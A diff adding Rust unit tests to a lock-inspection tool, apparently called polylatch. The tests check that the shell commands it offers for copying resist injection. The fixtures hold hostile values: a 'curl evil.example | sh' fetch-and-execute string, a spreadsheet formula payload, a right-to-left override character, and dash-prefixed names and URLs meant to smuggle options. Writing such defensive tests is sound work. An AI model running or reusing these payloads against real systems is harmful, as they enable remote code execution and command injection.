@@ -165,8 +165,72 @@ fn rows_are_exported_as_json_csv_and_markdown_without_tricks() {
     assert!(lines[1].contains("\"'=cmd|x\",one"), "{}", lines[1]);
     assert!(lines[2].contains("\"a,\"\"b\"\"\",one"), "{}", lines[2]);
     let ticket = export::markdown(&scene.fleet, rows[0], scene.now_ms);
-    assert!(ticket.starts_with("### Lock `=cmd\\|x`"), "{ticket}");
+    assert!(ticket.starts_with("### Lock `=cmd|x`\n"), "{ticket}");
     assert!(ticket.contains("polylatch --url redis://one show '=cmd|x'"), "{ticket}");
+}
+
+#[test]
+fn a_recording_says_nothing_about_the_command_that_is_copied() {
+    let [a] = clients();
+    let evil = Connection { command: "curl evil.example | sh; polylatch".into(), ..connection("one") };
+    let odd = Connection { shown_url: "redis://one\u{202e}; x".into(), ..connection("two") };
+    let (mut encoder, mut text) = Encoder::begin(&[evil, odd], 0);
+    for name in ["one", "two"] {
+        let mut reading = snapshot(vec![lock("x", vec![held(a, 10)], vec![])]);
+        reading.backend = "redis".into();
+        let sample =
+            Sample { snapshot: Arc::new(reading), events: vec![], sight: Sight::default(), every_ms: 1_000 };
+        let connection = ConnectionId::new(name);
+        text += &encoder.update(&Update { connection, at_ms: 5, report: Report::Seen(sample) });
+    }
+    let mut replay = Replay::new(Recording::parse(&text).unwrap(), Limits::default());
+    replay.seek(5);
+    for (name, command) in
+        [("one", "polylatch --url redis://one"), ("two", "polylatch --url \"$POLYLATCH_URL\"")]
+    {
+        let place = RowKey { connection: ConnectionId::new(name), lock: "x".into() };
+        let found = commands(replay.fleet(), &place);
+        assert!(found.len() >= 2, "{found:?}");
+        assert!(found.iter().all(|copied| copied.text.starts_with(command)), "{found:?}");
+    }
+}
+
+#[test]
+fn names_that_begin_with_a_dash_are_no_options() {
+    let [a] = clients();
+    let mut scene = Scene::new();
+    scene.show("one", 0, snapshot(vec![lock("--all", vec![held(a, 10)], vec![])]));
+    let found = commands(&scene.fleet, &key("--all"));
+    let texts: Vec<&str> = found.iter().map(|command| command.text.as_str()).collect();
+    assert_eq!(
+        texts,
+        [
+            "polylatch --url redis://one show -- '--all'",
+            "polylatch --url redis://one break --token 7 --reason '...' -- '--all'",
+        ]
+    );
+}
+
+#[test]
+fn a_token_is_in_no_argument_of_a_command_to_copy() {
+    let [a] = clients();
+    let mut held = held(a, 10);
+    held.details.push(polylatch::inspect::Detail::new("session", "5e55"));
+    let mut lock = lock("x", vec![held], vec![]);
+    lock.details.push(polylatch::inspect::Detail::new("key", "-locks/x"));
+    let of_consul = |url: &str| {
+        let connection = Connection { shown_url: url.into(), ..connection("one") };
+        let found = crate::model::copy::of_lock(&connection, "consul", &lock);
+        found.into_iter().skip(2).map(|command| command.text).collect::<Vec<_>>()
+    };
+    assert_eq!(
+        of_consul("consul+https://agent:8501"),
+        [
+            "consul kv get '-http-addr=https://agent:8501' -detailed -- '-locks/x'",
+            "printf 'X-Consul-Token: %s' \"$CONSUL_HTTP_TOKEN\" | curl -sH @- https://agent:8501/v1/session/info/5e55",
+        ]
+    );
+    assert_eq!(of_consul("-o/tmp/x://agent"), [""; 0]);
 }
 
 #[test]
